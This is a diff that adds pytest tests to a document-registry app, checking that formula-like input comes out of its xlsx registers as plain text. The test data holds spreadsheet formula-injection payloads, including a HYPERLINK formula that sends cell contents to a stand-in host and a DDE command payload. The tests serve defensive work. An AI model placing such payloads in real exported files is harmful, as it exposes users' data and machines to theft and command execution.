@@ -5,6 +5,8 @@ from __future__ import annotations
 import threading
 from datetime import timedelta
 
+import pytest
+
 from ancuu_docs.documents.models import ArrivalCounter, Document, NumberCounter
 from ancuu_docs.extensions import db
 from ancuu_docs.timeutil import local_today
@@ -576,3 +578,103 @@ def test_the_office_corrects_a_registered_entrys_description_but_not_an_issued_d
     api.transition("secretariat", ours["id"], "approved")
     issued = api("secretariat", "PATCH", f"/documents/{ours['id']}", json={"title": "Tên khác"})
     assert issued.status_code == 409  # issued here: it stays as issued
+
+
+FORMULAS = {
+    "issuer": '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
+    "number": "=cmd|' /C calc'!A0",
+    "signer": "=1+1",
+    "handler": "+84 905 123 456",
+    "recipients": "@SUM(1,2); -2+3",
+}
+
+
+def _spreadsheet_cells(data: bytes) -> tuple[list, str]:
+    """The cells as openpyxl reads them, and the sheet's own XML (where a formula is an <f>)."""
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return cells, archive.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_what_people_typed_stays_text_in_every_xlsx_register(app, api, tmp_path):
+    """An issuer, an imported number, a signer from a template's field, a handler and the
+    recipients that look like formulas come out of both registers as the words typed."""
+    import csv
+
+    folder = tmp_path / "nhap"
+    folder.mkdir()
+    metadata = tmp_path / "danh-muc.csv"
+    with metadata.open("w", encoding="utf-8", newline="") as out:
+        writer = csv.writer(out)
+        writer.writerow(
+            ["file", "origin", "issuer", "number", "issue_date", "received_date", "doc_type", "title"]
+        )
+        writer.writerow(
+            [
+                "",
+                "incoming",
+                FORMULAS["issuer"],
+                FORMULAS["number"],
+                "2025-06-16",
+                "2025-06-20",
+                "CV",
+                "Công văn",
+            ]
+        )
+    imported = app.test_cli_runner().invoke(
+        args=["import", str(folder), "--user", "secretariat", "--metadata", str(metadata)]
+    )
+    assert "Đã nhập 1" in imported.output, imported.output
+    entry = db.session.query(Document).filter_by(origin="incoming").one()
+    handling = {"handler": FORMULAS["handler"], "reply_due": "2025-07-15"}
+    assert api("secretariat", "POST", f"/documents/{entry.id}/handling", json=handling).status_code == 200
+
+    from tests.test_drafting import FIELDS
+
+    fields = {**FIELDS["resolution"], "signer_name": FORMULAS["signer"]}
+    draft = api("clerk", "POST", "/drafts", json={"template": "resolution", "fields": fields}).json
+    api.transition("clerk", draft["id"], "in_review")
+    approval = {"to": "approved", "issue_date": "2025-11-05"}
+    assert (
+        api("secretariat", "POST", f"/documents/{draft['id']}/transitions", json=approval).json["signer"]
+        == "=1+1"
+    )
+    dispatch = {"recipients": FORMULAS["recipients"], "copies": 3, "sent_date": "2025-11-06"}
+    assert api("secretariat", "POST", f"/documents/{draft['id']}/dispatch", json=dispatch).status_code == 200
+
+    for kind, typed in (
+        ("incoming", ("issuer", "number", "handler")),
+        ("outgoing", ("signer", "recipients")),
+    ):
+        download = api(
+            "secretariat", "GET", f"/registers/{kind}", query_string={"year": 2025, "format": "xlsx"}
+        )
+        cells, sheet_xml = _spreadsheet_cells(download.data)
+        assert [c.coordinate for c in cells if c.data_type == "f"] == [], kind
+        assert "<f>" not in sheet_xml and "<f " not in sheet_xml, kind
+        for key in typed:
+            cell = next(c for c in cells if c.value == FORMULAS[key])
+            assert cell.data_type == "s" and cell.quotePrefix, (kind, key)
+
+
+@pytest.mark.parametrize("typed", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
+def test_every_start_of_a_formula_is_written_as_a_string_cell(typed):
+    """The starts spreadsheets read as a formula (OWASP's list), tab and carriage return too:
+    whatever the form or the import lets through, the cell stays the text."""
+    import io
+
+    from openpyxl import Workbook, load_workbook
+
+    from ancuu_docs import spreadsheets
+
+    book = Workbook()
+    spreadsheets.put(book.active, 1, 1, typed)
+    saved = io.BytesIO()
+    book.save(saved)
+    cell = load_workbook(io.BytesIO(saved.getvalue())).active["A1"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (typed, "s", True)
